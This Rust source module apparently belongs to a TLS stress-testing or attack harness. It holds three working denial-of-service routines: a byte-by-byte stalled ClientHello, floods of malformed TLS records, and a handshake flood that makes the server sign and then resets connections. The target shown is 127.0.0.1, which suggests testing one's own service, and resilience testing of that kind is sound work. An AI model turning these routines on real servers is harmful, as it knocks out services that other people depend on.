//! TLS that stalls, that is none, and that is begun for nothing.

use std::collections::VecDeque;
use std::sync::Arc;

use anyhow::Result;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};

use super::attack::{Attack, discard, reset, send};
use super::slow;

/// The heads of a record and of a ClientHello of 200 bytes (RFC 8446, section 4).
const HELLO: &[u8] = &[22, 3, 1, 0, 204, 1, 0, 0, 200, 3, 3];

/// How many handshakes are under way before the first is given up.
const BEGUN: usize = 50;

/// Begins a handshake, and goes on byte by byte.
pub(super) fn stall(attack: &Attack<'_>) -> Result<u64> {
    slow::trickle(attack, HELLO)
}

/// Says what is no handshake, in every kind of record.
pub(super) fn garbage(attack: &Attack<'_>) -> Result<u64> {
    attack.repeat(200, |nth| {
        let Some(mut stream) = attack.connect(nth)? else { return Ok(false) };
        let record = [&[20 + (nth % 5) as u8, 3, 3, 0x40, 0][..], &[nth as u8; 0x4000]].concat();
        let said: &[u8] = if nth % 3 == 0 { b"GET / HTTP/1.1\r\n\r\n" } else { &record };
        // What happens to it is the service's business.
        let _ = send(&mut stream, said);
        let _ = discard(&mut stream, 1);
        Ok(true)
    })
}

/// Has the server sign, which is its most expensive work, and goes without an answer.
pub(super) fn flood(attack: &Attack<'_>) -> Result<u64> {
    let config = ClientConfig::builder()
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let mut side = ClientConnection::new(Arc::new(config), ServerName::try_from("127.0.0.1")?)?;
    let mut hello = Vec::new();
    side.write_tls(&mut hello)?;
    let mut begun = VecDeque::with_capacity(BEGUN);
    attack.repeat(500, |nth| {
        let Some(mut stream) = attack.connect(nth)? else { return Ok(false) };
        // What happens to it is the service's business.
        let _ = send(&mut stream, &hello);
        begun.push_back(stream);
        // A reset that comes too early takes back what was asked.
        if begun.len() == BEGUN
            && let Some(stream) = begun.pop_front()
        {
            reset(stream)?;
        }
        Ok(true)
    })
}
